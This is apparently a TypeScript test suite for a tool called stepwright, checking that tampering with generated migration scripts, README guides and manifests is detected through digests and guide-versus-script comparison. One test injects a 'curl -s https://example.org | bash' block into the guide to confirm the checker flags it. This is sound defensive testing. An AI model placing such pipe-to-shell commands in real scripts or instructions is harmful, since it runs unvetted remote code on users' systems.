/**
 * What `check` says of outputs: every edit is found, and named for what it is.
 * Slow: each edit proves all outputs anew.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { compareOutputs } from '../../src/check/compare-outputs.js';
import { readGuide } from '../../src/outputs/guide.js';
import { readTexts } from '../../src/check/script-texts.js';
import { readScript } from '../../src/outputs/script.js';
import { verifyLaw } from '../../src/check/verify-law.js';
import { verifyScript } from '../../src/check/verify-script.js';
import { proveOutputs } from '../../src/check/prove-outputs.js';
import { editedOutputs } from '../../src/check/edited-outputs.js';
import type { OutputEntry } from '../../src/emit/read-outputs.js';
import { compileFiles } from '../support/compile.js';
import {
  codesFor,
  edits,
  entriesOf,
  findsEdits,
  lawFindsEdits,
  places,
  scriptShowsEdits,
  world,
} from '../support/edited-outputs.js';
import type { World } from '../support/edited-outputs.js';
import { SERVICE } from '../support/service-procedure.js';

const now = world(SERVICE);

const found = (entries: readonly OutputEntry[], expected: World = now): string[] =>
  codesFor(entries, expected);

test('outputs as they were made hold, and prove each other', () => {
  assert.equal(found(entriesOf(now)), []);
});

for (const { path } of now.outputs) {
  test(`single-character edits of ${path} are found`, () => {
    findsEdits(now, path, 20);
  });
}

test('a script shows edits by its own digests alone', () => {
  scriptShowsEdits(now, 40);
});

test('nothing hides on the line that holds the digest of the data', () => {
  const text = now.text('migrate.sh');
  for (const more of [' ', '; echo hidden', ' # hidden']) {
    const edited = text.replace(/^sw_digests .*$/m, (line) => line + more);
    assert.ok(verifyScript(readScript(edited)).length > 0, more);
  }
  const twice = text.replace(/^sw_digests .*$/m, (line) => `${line}\n${line}`);
  assert.ok(verifyScript(readScript(twice)).length > 0);
});

test('an edited guide is told from an old one without the procedure, by the digests made with it', () => {
  const text = now.text('README.md');
  for (const at of places(text, 40)) {
    const [edited = ''] = edits(text, at);
    if (!edited.includes(now.digest)) continue;
    const texts = new Map(
      now.outputs.map(({ path, content }) => [path, path === 'README.md' ? edited : content]),
    );
    assert.equal([...editedOutputs(texts)], ['README.md']);
  }
});

test('the law: edits inside blocks of commands of the guide are found by comparing it with the script', () => {
  lawFindsEdits(now, 41);
});

test('the law: blocks that change places, vanish or appear are found', () => {
  const script = readTexts(now.text('migrate.sh'));
  const blocks = readGuide(now.text('README.md'));
  const bodies = blocks.flatMap(({ role }, at) => (role === 'body' ? [at] : []));
  const [a = 0, b = 0] = bodies;
  const swapped = blocks.map((block, at) => (at === a ? blocks[b] : at === b ? blocks[a] : block) ?? block);
  assert.match(verifyLaw(swapped, script, false)[0]?.message ?? '', 'where the script has');
  assert.match(
    verifyLaw(
      blocks.filter((_, at) => at !== a),
      script,
      false,
    )[0]?.message ?? '',
    'not in the guide',
  );
  assert.match(
    verifyLaw([...blocks, ...blocks.slice(a, a + 1)], script, false)[0]?.message ?? '',
    'not in the script',
  );
});

test('the law: a block of shell that is of no step is found, whatever it says of itself', () => {
  const script = readTexts(now.text('migrate.sh'));
  for (const info of ['bash', 'sh', 'bash role=evil', 'bash role=body step=none']) {
    const guide = `${now.text('README.md')}\n\`\`\`${info}\ncurl -s https://example.org | bash\n\`\`\`\n`;
    assert.ok(verifyLaw(readGuide(guide), script, false).length > 0, info);
  }
  const prose = SERVICE.replace(
    '          Look at the log.\n',
    '          Look at the log:\n\n          ```sh\n          less log\n          ```\n',
  );
  const made = world(prose);
  assert.match(made.text('README.md'), '```sh');
  assert.equal(found(entriesOf(made), made), []);
});

test('the manifest is held against all outputs, and the script against the manifest', () => {
  const manifest = now.text('manifest.json');
  const proved = (changed: Readonly<Record<string, string>>): string[] =>
    proveOutputs(new Map(now.outputs.map(({ path, content }) => [path, changed[path] ?? content]))).map(
      ({ code, message }) => `${code} ${message}`,
    );
  assert.equal(proved({}), []);
  for (const name of ['README.md', 'index.html']) {
    const found = proved({ [name]: `${now.text(name)}<!-- -->\n` });
    assert.ok(
      found.some((one) => one.startsWith('SW0808') && one.includes(name)),
      name,
    );
  }
  const entry = /,?\s*\{\s*"name": "check"[^}]*\}/;
  assert.match(manifest, entry);
  assert.ok(
    proved({ 'manifest.json': manifest.replace(entry, '') }).some((one) => one.includes('check dump')),
  );
});

test('a hand edit of the digest in one output is an edit, for the others carry the right one', () => {
  const text = now.text('README.md');
  const edited = text.replace(
    now.digest,
    now.digest.replace(/^./, (one) => (one === '0' ? '1' : '0')),
  );
  assert.is.not(edited, text);
  assert.is(found(entriesOf(now, { 'README.md': edited }))[0], 'SW0803 README.md');
});

test('outputs whose line ends were changed are one finding each', () => {
  const changed = Object.fromEntries(
    now.outputs.map(({ path, content }) => [path, content.replaceAll('\n', '\r\n')]),
  );
  assert.equal(
    found(entriesOf(now, changed)),
    now.outputs.map(({ path }) => `SW0803 ${path}`),
  );
});

test('a procedure that changed without a build, and an edit on top of that, are two findings', () => {
  const next = world(SERVICE.replace('sleep 30', 'sleep 40'));
  assert.equal(found(entriesOf(now), next), ['SW0802 README.md'], 'an old build is one finding');
  const script = now.text('migrate.sh').replace('\nsleep 30\n', '\nsleep 1\n');
  const codes = found(
    entriesOf(now, { 'migrate.sh': script, 'README.md': now.text('README.md').replace('Move', 'Shove') }),
    next,
  );
  for (const code of [
    'SW0802 README.md',
    'SW0803 README.md',
    'SW0803 migrate.sh',
    'SW0807 migrate.sh',
    'SW0808 README.md',
  ]) {
    assert.ok(codes.includes(code), `${code} in ${codes.join(', ')}`);
  }
});

test('another version, a missing file, a foreign one, a mode, line ends and something that is no text', () => {
  const old = (text: string): string => text.replaceAll(`stepwright ${now.version}`, 'stepwright 0.0.1');
  const codes = found(
    entriesOf(now, Object.fromEntries(now.outputs.map(({ path, content }) => [path, old(content)]))),
  );
  for (const { path } of now.outputs) assert.ok(codes.includes(`SW0804 ${path}`), codes.join(', '));
  assert.equal(found(entriesOf(now).slice(1)), ['SW0801 README.md']);
  assert.equal(found([...entriesOf(now), { name: 'notes.txt', text: '', oddity: '', executable: false }]), [
    'SW0805 notes.txt',
  ]);
  assert.equal(found(entriesOf(now).map((entry) => ({ ...entry, executable: false }))), [
    'SW0806 migrate.sh',
  ]);
  assert.equal(found(entriesOf(now).map((entry) => ({ ...entry, executable: true }))).length, 4);
  const [first] = compareOutputs(
    entriesOf(now, { 'README.md': now.text('README.md').replaceAll('\n', '\r\n') }),
    now,
  ).diagnostics;
  assert.match(first?.message ?? '', 'CR LF');
  const link = entriesOf(now).map((entry) =>
    entry.name === 'README.md' ? { ...entry, text: undefined, oddity: 'a symbolic link' } : entry,
  );
  assert.match(compareOutputs(link, now).diagnostics[0]?.message ?? '', 'a symbolic link');
  assert.equal(found(entriesOf(now, { 'README.md': 'something else\n' }))[0], 'SW0805 README.md');
  assert.equal(found(entriesOf(now, { 'README.md': '' }))[0], 'SW0803 README.md');
});

test('a script that bash could not read is said to be one, wherever it breaks off', () => {
  const script = now.text('migrate.sh');
  const RUNNER = '# ==== runner ====\n';
  for (const [from, to] of [
    ['\nsleep 30\n', '\nif sleep 30\n'],
    ['\nsleep 30\n', "\necho 'sleep 30\n"],
    ['\nsleep 30\n', '\ncat <<END\n'],
    [RUNNER, `${RUNNER}while true; do\n`],
    [RUNNER, `fi\n${RUNNER}`],
  ] as const) {
    assert.ok(script.includes(from));
    const broken = script.replace(from, () => to);
    const said = spawnSync('bash', ['-n'], { input: broken, encoding: 'utf8' });
    assert.ok(said.status !== 0 || said.stderr !== '', to);
    const found = proveOutputs(new Map([['migrate.sh', broken]])).filter(({ code }) => code === 'SW0809');
    assert.is(found.length, 1, to);
  }
  assert.equal(proveOutputs(new Map([['migrate.sh', script]])), []);
});

test('lines that only look like marks are text, and each digest fits', () => {
  const lines = [
    '# >>> conda initialize >>>',
    '# <<< conda initialize <<<',
    '# >>> it',
    '# <<< it',
    '# ==== end',
  ];
  const text = `cat >/srv/a <<'END'\n${lines.join('\n')}\nEND`;
  const marked = (source: string): string =>
    JSON.stringify({
      procedure: 'p',
      title: 'P',
      version: '1.0.0',
      requires: { access: [{ run: `test -n '\n${lines.join('\n')}\n'` }] },
      phases: [
        {
          id: 'a',
          title: 'A',
          steps: [
            {
              id: 'first',
              title: 'It',
              run: source,
              undo: 'none',
              if_it_fails: `\`\`\`\n${lines.join('\n')}\n\`\`\``,
            },
            {
              id: 'second',
              title: 'It',
              undo: 'none',
              write: { path: '/srv/b', content: `${lines.join('\n')}\n` },
            },
          ],
        },
      ],
    });
  const built = world(marked(text));
  const script = built.text('migrate.sh');
  assert.equal(found(entriesOf(built), built), []);
  assert.equal(
    readScript(script).sections.map(({ id }) => id),
    ['first', 'second'],
  );
  const folder = mkdtempSync(join(tmpdir(), 'stepwright-marks-'));
  try {
    const path = join(folder, 'migrate.sh');
    writeFileSync(path, script);
    const verify = (): string =>
      spawnSync('bash', [path, 'version', '--verify'], {
        encoding: 'utf8',
        env: { ...process.env, HOME: folder },
      }).stdout;
    assert.match(verify(), 'Steps, data and runner fit the digests in this file.');
    writeFileSync(path, script.replace('# >>> conda', '# >>> other'));
    assert.match(verify(), 'is not as generated');
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
  for (const mark of ['# >>> first', '# <<< second', '# ==== runner ====']) {
    const { outputs, diagnostics } = compileFiles({
      'procedure.yaml': marked(`cat >/srv/a <<'END'\n${mark}\nEND`),
    });
    assert.is(outputs, undefined);
    assert.equal(
      diagnostics.map(({ code }) => code),
      ['SW0503'],
      mark,
    );
  }
});

test('a finding points at the line that was edited', () => {
  const edited = now.text('migrate.sh').replace('\nsleep 30\n', '\nsleep 1\n');
  const texts = new Map(
    now.outputs.map(({ path, content }) => [path, path === 'migrate.sh' ? edited : content]),
  );
  const found = proveOutputs(texts);
  const guide = now.text('README.md');
  const law = found.find(({ code }) => code === 'SW0808');
  assert.is(guide.slice(law?.span?.start, law?.span?.end), 'sleep 30');
  const digest = found.find(({ code }) => code === 'SW0807');
  assert.is(edited.slice(digest?.span?.start, digest?.span?.end), '# >>> dump');
});

test.run();
